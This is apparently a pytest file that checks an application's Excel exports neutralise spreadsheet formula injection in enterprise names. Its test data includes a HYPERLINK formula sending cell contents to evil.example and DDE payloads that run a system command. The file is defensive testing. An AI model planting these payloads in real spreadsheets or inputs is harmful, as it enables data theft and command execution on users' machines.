"""Spreadsheet formula injection (issue 8 §3): an enterprise named like a formula is exported as
text, never as a live formula, in the awards export and the treasury's payment list."""

from __future__ import annotations

import io
import re
from decimal import Decimal

import polars as pl
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from commerce_brain.access import Scope, User
from commerce_brain.catalog import load_catalog
from commerce_brain.io.cells import neutralise
from commerce_brain.io.enterprise_import import PolicyData
from commerce_brain.policy.engine import packaged
from commerce_brain.policy.synthetic import city
from commerce_brain.settings import Settings
from commerce_brain import fulfilment as f
from commerce_brain.store.accounts import create_user
from commerce_brain.store.schema import connect
from commerce_brain.web.app import create_app

YEAR = 2023
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
# The same trick behind each character OWASP lists.
ATTACKS = [ATTACK, '+HYPERLINK("http://evil.example")', '-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0',
           '\t=1+1', '\r=1+1']
PASSWORD = "Export-injection-test-Passw0rd!"
OFFICER = User(1, "officer", "资管办", "policy_officer")


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_becomes_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [1234, -5, 12.5, Decimal("-0.01"), None, True, "-3.5", "+6%", "1,234.50",
                                   "衢州某某有限公司", "a=b"])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert neutralise(value) is value


@pytest.fixture
def site(database_url):
    """Every enterprise of the synthetic city renamed with one of the attacks, a batch run, and
    one officer and one finance officer."""
    policies, _ = packaged()
    enterprises, facts, events = city(120, [2019, 2020, 2021, 2022, YEAR], event_kinds=sorted(policies.event_kinds()))
    enterprises = enterprises.with_columns(
        name=pl.Series([ATTACKS[i % len(ATTACKS)] for i in range(enterprises.height)]))
    engine = connect(database_url)
    f.save_policy_data(engine, PolicyData(enterprises, facts, events), actor="loader")
    f.run_batch(engine, YEAR, actor=OFFICER)
    catalog = load_catalog()
    for username, role in (("officer", "policy_officer"), ("finance", "finance_officer")):
        create_user(engine, username=username, password=PASSWORD, role=role, display_name=username, catalog=catalog)
    yield create_app(Settings.from_env(database_url=database_url)), engine
    engine.dispose()


def sign_in(app, username: str) -> tuple[TestClient, str]:
    client = TestClient(app)
    form = client.get("/login")
    token = re.search(r'name="login_token" value="([^"]+)"', form.text).group(1)
    answer = client.post("/login", data={"username": username, "password": PASSWORD, "login_token": token,
                                         "next": "/"}, follow_redirects=False)
    assert answer.status_code == 303, answer.text
    return client, re.search(r'name="csrf" value="([^"]+)"', client.get("/").text).group(1)


def assert_text_not_formula(workbook: bytes, column: int) -> list[str]:
    """Every cell of ``column`` below the header holds text, none a formula; returns them."""
    sheet = load_workbook(io.BytesIO(workbook)).active
    cells = [row[column] for row in sheet.iter_rows(min_row=2) if row[column].value is not None]
    assert cells
    for cell in cells:
        assert cell.data_type != "f", f"{cell.coordinate} is a live formula: {cell.value}"
        assert isinstance(cell.value, str) and not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    return [c.value for c in cells]


def test_the_awards_export_holds_the_attack_as_text(site):
    app, _ = site
    officer, _ = sign_in(app, "officer")
    book = officer.get(f"/awards/export.xlsx?year={YEAR}")
    assert book.status_code == 200
    names = assert_text_not_formula(book.content, column=1)  # 企业名称
    assert "'" + ATTACK in names  # what the enterprise is called, shown, not run


def test_the_payment_list_export_holds_the_attack_as_text(site):
    app, engine = site
    award = f.list_awards(engine, scope=Scope()).filter(~pl.col("needs_review")).row(0, named=True)
    f.confirm(engine, award["id"], user=User(9, "firm", "企业", "enterprise", uscc=award["uscc"]))
    f.approve(engine, award["id"], user=OFFICER)
    finance, csrf = sign_in(app, "finance")
    made = finance.post("/payments", data={"payer": award["payer"], "csrf": csrf}, follow_redirects=False)
    assert made.status_code == 303
    book = finance.get(f"{made.headers['location']}/export.xlsx")
    assert book.status_code == 200
    sheet = load_workbook(io.BytesIO(book.content)).active
    names = [row[0] for row in sheet.iter_rows(min_row=2, max_row=sheet.max_row - 1)]  # the last row is 合计
    assert names and all(c.data_type != "f" and c.value.startswith("'") for c in names)
    assert isinstance(sheet.cell(2, 4).value, (int, float))  # 金额 stays a number

